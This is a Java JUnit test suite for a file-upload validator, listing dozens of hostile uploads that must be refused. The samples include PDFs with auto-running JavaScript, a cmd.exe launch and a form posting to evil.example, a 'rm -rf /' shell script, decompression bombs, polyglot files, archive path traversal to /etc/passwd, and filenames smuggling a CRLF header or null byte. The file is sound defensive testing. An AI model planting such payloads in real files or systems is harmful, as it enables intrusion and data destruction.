package eu.mpf.web.file;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import eu.mpf.web.problem.ProblemException;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Uploads that mean harm, each refused with a pointer and a code; what only a scanner finds stays in quarantine. */
@Tag("X15")
@Tag("E31")
class HostileUploadsTest {
    private static final FileRules RULES = new FileRules(64 << 20, 5, FileRules.DOCUMENTS, false);
    private static final String PNG = "\u0089PNG\r\n\u001a\n";
    private static final String JPEG = "\u00ff\u00d8\u00ff\u00e0\u0000\u0010JFIF\u0000";

    record Hostile(String what, String name, String type, byte[] bytes, String code) {
        @Override
        public String toString() {
            return what;
        }
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static Hostile pdf(String what, String objects) {
        return new Hostile(
                what,
                "a.pdf",
                "application/pdf",
                bytes("%PDF-1.7\n" + objects + "\ntrailer <</Root 1 0 R>>\n%%EOF"),
                "file-type-mismatch");
    }

    private static Hostile named(String what, String name, String code) {
        return new Hostile(what, name, "application/pdf", bytes("%PDF-1.7\n"), code);
    }

    private static Hostile content(String what, String name, String type, String content, String code) {
        return new Hostile(what, name, type, bytes(content), code);
    }

    private static Hostile docx(String what, String... more) {
        var parts = new LinkedHashMap<String, byte[]>();
        parts.put("[Content_Types].xml", bytes("<Types/>"));
        parts.put("word/document.xml", bytes("<w/>"));
        for (var part : more) {
            parts.put(part, bytes("x"));
        }
        return new Hostile(what, "a.docx", FileRules.DOCX, zip(parts), "file-type-mismatch");
    }

    private static byte[] zip(Map<String, byte[]> parts) {
        try {
            var bytes = new ByteArrayOutputStream();
            try (var zip = new ZipOutputStream(bytes)) {
                for (var part : parts.entrySet()) {
                    zip.putNextEntry(new ZipEntry(part.getKey()));
                    zip.write(part.getValue());
                }
            }
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String deflated(String text, int level) {
        try {
            var bytes = new ByteArrayOutputStream();
            try (var out = new DeflaterOutputStream(bytes, new Deflater(level))) {
                out.write(bytes(text));
            }
            return bytes.toString(StandardCharsets.ISO_8859_1);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static void blanks(OutputStream out, int megabytes) throws IOException {
        var block = new byte[1 << 20];
        for (int i = 0; i < megabytes; i++) {
            out.write(block);
        }
    }

    private static String deflatedBlanks(int megabytes) {
        try {
            var bytes = new ByteArrayOutputStream();
            try (var out = new DeflaterOutputStream(bytes)) {
                blanks(out, megabytes);
            }
            return bytes.toString(StandardCharsets.ISO_8859_1);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] zipOfBlanks(int megabytes) {
        try {
            var bytes = new ByteArrayOutputStream();
            try (var zip = new ZipOutputStream(bytes)) {
                zip.putNextEntry(new ZipEntry("word/document.xml"));
                blanks(zip, megabytes);
            }
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String packed(String objects) {
        return "7 0 obj <</Type /ObjStm /Filter /FlateDecode>>\nstream\r\n" + deflated(objects, 9)
                + "\nendstream endobj";
    }

    static Stream<Hostile> uploads() {
        var all = new ArrayList<Hostile>();
        all.add(pdf("script on opening", "1 0 obj <</OpenAction <</S /JavaScript /JS (app.alert(1))>>>> endobj"));
        all.add(pdf("script with an escaped name", "1 0 obj <</S /Java#53cript /JS (x)>> endobj"));
        all.add(pdf("script in a name tree", "1 0 obj <</Names <</JavaScript 5 0 R>>>> endobj"));
        all.add(pdf("script on a page's own event", "1 0 obj <</AA <</O <</S/JavaScript/JS(x)>>>>>> endobj"));
        all.add(pdf("program started", "1 0 obj <</S /Launch /F (cmd.exe)>> endobj"));
        all.add(pdf("file carried along", "1 0 obj <</Type /EmbeddedFile /Length 1>> endobj"));
        all.add(pdf("tree of files carried along", "1 0 obj <</Names <</EmbeddedFiles 2 0 R>>>> endobj"));
        all.add(pdf("media that run", "1 0 obj <</Subtype /RichMedia>> endobj"));
        all.add(pdf("form that runs", "1 0 obj <</AcroForm <</XFA 3 0 R>>>> endobj"));
        all.add(pdf("form sent elsewhere", "1 0 obj <</S /SubmitForm /F (https://evil.example)>> endobj"));
        all.add(pdf("data imported", "1 0 obj <</S /ImportData /F (x.fdf)>> endobj"));
        all.add(pdf("encrypted", "trailer <</Encrypt 4 0 R>>"));
        all.add(pdf("script in a packed object", packed("<</S /JavaScript /JS (x)>> ")));
        all.add(pdf(
                "script behind a stream that never ends", "1 0 obj <<>>\nstream\nx\u009c" + packed("<</S /Launch>> ")));
        all.add(pdf(
                "objects packed so that nobody looks",
                "7 0 obj <</Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]>>\nstream\n00>\nendstream endobj"));
        all.add(pdf("bomb of a stream", "1 0 obj <<>>\nstream\n" + deflatedBlanks(300)));
        all.add(content(
                "web page as PDF", "a.pdf", "application/pdf", "<html><script>x</script>", "file-type-mismatch"));
        all.add(content("program as PDF", "a.pdf", "application/pdf", "MZ\u0090\u0000\u0003", "file-type-mismatch"));
        all.add(content("shell script as text", "a.txt", "text/plain", "#!/bin/sh\nrm -rf /\n", "file-type-mismatch"));
        all.add(content(
                "web page as text", "a.txt", "text/plain", "<!DOCTYPE html><html></html>", "file-type-mismatch"));
        all.add(content("picture as PDF", "a.pdf", "application/pdf", PNG, "file-type-mismatch"));
        all.add(content("PDF as picture", "a.png", "image/png", "%PDF-1.7\n", "file-type-mismatch"));
        all.add(content("PDF declared as picture", "a.pdf", "image/png", "%PDF-1.7\n", "file-type-mismatch"));
        all.add(content(
                "GIF that is a PDF as well", "a.pdf", "application/pdf", "GIF89a;%PDF-1.7\n", "file-type-mismatch"));
        all.add(content(
                "drawing with a script",
                "a.svg",
                "image/svg+xml",
                "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
                "file-type-not-allowed"));
        all.add(content("web page", "a.html", "text/html", "<!DOCTYPE html><html></html>", "file-type-not-allowed"));
        all.add(content("script", "a.js", "text/javascript", "alert(1)", "file-type-not-allowed"));
        all.add(content("nothing", "a.pdf", "application/pdf", "", "empty"));
        var jar = new String(zip(Map.of("A.class", bytes("x"))), StandardCharsets.ISO_8859_1);
        all.add(content("archive on a picture", "a.png", "image/png", PNG + jar, "file-type-mismatch"));
        all.add(content("archive on a photograph", "a.jpg", "image/jpeg", JPEG + jar, "file-type-mismatch"));
        all.add(content("archive on a PDF", "a.pdf", "application/pdf", "%PDF-1.7\n" + jar, "file-type-mismatch"));
        all.add(content(
                "archive on a picture longer than any comment",
                "a.png",
                "image/png",
                PNG + "x".repeat(200_000) + jar,
                "file-type-mismatch"));
        all.add(docx("macros", "word/vbaProject.bin"));
        all.add(docx("macros of another kind", "xl/macrosheets/sheet1.xml"));
        all.add(docx("controls that run", "word/activeX/activeX1.xml"));
        all.add(docx("a part that would leave its folder", "../../etc/cron.d/x"));
        all.add(docx("a part at the root", "/etc/passwd"));
        all.add(docx("a part for another system", "..\\windows\\x.dll"));
        all.add(new Hostile(
                "office document that unpacks without end",
                "a.docx",
                FileRules.DOCX,
                zipOfBlanks(520),
                "file-type-mismatch"));
        all.add(new Hostile(
                "archive called a document",
                "a.docx",
                FileRules.DOCX,
                zip(Map.of("evil.exe", bytes("MZ"))),
                "file-type-mismatch"));
        all.add(new Hostile(
                "half a document",
                "a.docx",
                FileRules.DOCX,
                java.util.Arrays.copyOf(zip(Map.of("word/document.xml", bytes("x".repeat(999)))), 60),
                "file-type-mismatch"));
        all.add(named("program with two extensions", "a.pdf.exe", "file-type-mismatch"));
        all.add(named("program inside two extensions", "invoice.exe.pdf", "name-deceptive"));
        all.add(named("web page inside two extensions", "a.php.pdf", "name-deceptive"));
        all.add(named("name written backwards", "a\u202efdp.exe.pdf", "name-invalid"));
        all.add(named("second stream of a file", "a.txt:evil.pdf", "name-invalid"));
        all.add(named("hidden file", ".htaccess.pdf", "name-invalid"));
        all.add(named("device", "CON.pdf", "name-invalid"));
        all.add(named("name cut by a zero", "a.exe\u0000.pdf", "name-invalid"));
        all.add(named("name without end", "a".repeat(300) + ".pdf", "name-invalid"));
        all.add(named("name of two lines", "a\r\nSet-Cookie: x.pdf", "name-invalid"));
        all.add(named("no name", "../../", "name-invalid"));
        return all.stream();
    }

    @ParameterizedTest
    @MethodSource("uploads")
    void itIsRefused(Hostile hostile) {
        var upload = Upload.of(hostile.name(), hostile.type(), null, hostile.bytes());
        assertThatThrownBy(() -> FileChecks.check(upload, RULES)).isInstanceOfSatisfying(ProblemException.class, e -> {
            assertThat(e.type().status()).isBetween(400, 415);
            assertThat(e.errors()).extracting("pointer").containsExactly("/file");
            assertThat(e.errors()).extracting("code").containsExactly(hostile.code());
        });
    }

    @Test
    void thereAreFortyAtLeast() {
        assertThat(uploads()).hasSizeGreaterThanOrEqualTo(40);
    }

    /** A document is read in pieces, and unpacked in smaller ones: wherever one of them ends, the name is found. */
    @Test
    void aNameThatIsCutByTheEndOfAPieceIsFound() {
        for (int piece : List.of(8_192, 65_536)) {
            for (int cut = -13; cut <= 13; cut++) {
                var script = " ".repeat(piece + cut - 20) + " stop essay <</S /#4aavaScript /JS (x)>> ";
                for (var objects : List.of(script, packed(script))) {
                    assertThatThrownBy(() -> FileChecks.check(
                                    Upload.of(
                                            "a.pdf",
                                            null,
                                            null,
                                            pdf("", objects).bytes()),
                                    RULES))
                            .as("%d bytes from the end of a piece of %d", cut, piece)
                            .hasMessageContaining("holds a script");
                }
            }
        }
    }

    /** What is refused above is refused for what it does: its harmless brothers pass. */
    @Test
    void harmlessOnesAreTaken() {
        for (var objects : List.of(
                "1 0 obj <</OpenAction [3 0 R /FitH null] /Names <</Dests 5 0 R>>>> endobj",
                "1 0 obj <</Title (On JavaScript and Launch)>> endobj",
                packed("<</Type /Page /Annots []>> "),
                "1 0 obj <</Filter /DCTDecode>>\nstream\n" + JPEG + "\nendstream endobj")) {
            var harmless = pdf("", objects);
            assertThatCode(() -> FileChecks.check(
                            Upload.of("Report v1.2 (final).pdf", "application/pdf", null, harmless.bytes()), RULES))
                    .as(objects)
                    .doesNotThrowAnyException();
        }
    }
}
